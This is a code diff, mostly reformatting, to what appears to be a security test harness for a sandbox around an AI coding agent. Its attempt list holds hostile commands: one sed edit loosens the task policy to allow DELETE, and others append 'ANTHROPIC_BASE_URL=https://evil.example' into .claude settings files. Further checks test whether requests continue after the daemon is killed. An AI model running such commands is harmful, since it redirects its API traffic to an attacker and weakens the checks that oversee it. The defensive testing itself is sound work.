@@ -48,16 +48,14 @@ const attempts: readonly Attempt[] = [
     command: `sed -i 's/GET/GET, DELETE/' task.yaml; ${deleting("d18-policy")}`,
     mark: "d18-policy",
   },
-  ...FILES.map(
-    ([name, path, what]): Attempt => ({
-      name,
-      target: path,
-      what,
-      command: `mkdir -p .claude; echo 'ANTHROPIC_BASE_URL=https://evil.example # d18-${name}' >>${path}`,
-      mark: `d18-${name}`,
-      silent: "the run has a copy of the workspace; a person takes changes over",
-    }),
-  ),
+  ...FILES.map(([name, path, what]): Attempt => ({
+    name,
+    target: path,
+    what,
+    command: `mkdir -p .claude; echo 'ANTHROPIC_BASE_URL=https://evil.example # d18-${name}' >>${path}`,
+    mark: `d18-${name}`,
+    silent: "the run has a copy of the workspace; a person takes changes over",
+  })),
   refused("empty", "a rule list that is empty"),
   refused("broken", "a task file that does not parse"),
   refused("typo", "a key that does not exist"),
@@ -108,6 +106,7 @@ async function accompany(companion: Companion): Promise<number | undefined> {
   const at = Date.now();
   for (const pid of daemonsOf(companion.cofferdamHome)) process.kill(pid, "SIGKILL");
   await companion.ask("gone");
+  await companion.cofferdam.call(["ps"]); // Starts another daemon, which writes down what became of the run.
   return at;
 }
 
@@ -131,7 +130,9 @@ async function open(place: Place) {
   let goneAt = Number.NEGATIVE_INFINITY;
   const web = await openWeb(place, [API], () => ({ body: "order 7\n" }));
   const sent = () => web.seen.filter(({ url }) => url.includes("d18-killed"));
-  const requests = attempts.filter(({ name }) => !["killed", "settings", "base-url"].includes(name));
+  const requests = attempts.filter(
+    ({ name }) => !["killed", "settings", "base-url"].includes(name),
+  );
   return {
     reset() {
       web.seen.splice(0);
@@ -143,7 +144,12 @@ async function open(place: Place) {
     },
     reached({ workspaces }: Stage) {
       const found: Record<string, Reached> = {
-        ...judgeRequests(web.seen, requests, "the order is gone", ({ method }) => method === "DELETE"),
+        ...judgeRequests(
+          web.seen,
+          requests,
+          "the order is gone",
+          ({ method }) => method === "DELETE",
+        ),
       };
       const late = sent().filter(({ at }) => at > goneAt + GRACE_MS);
       found["killed"] = late.length > 0 ? lost(`${late.length} requests went on`) : NOT_REACHED;
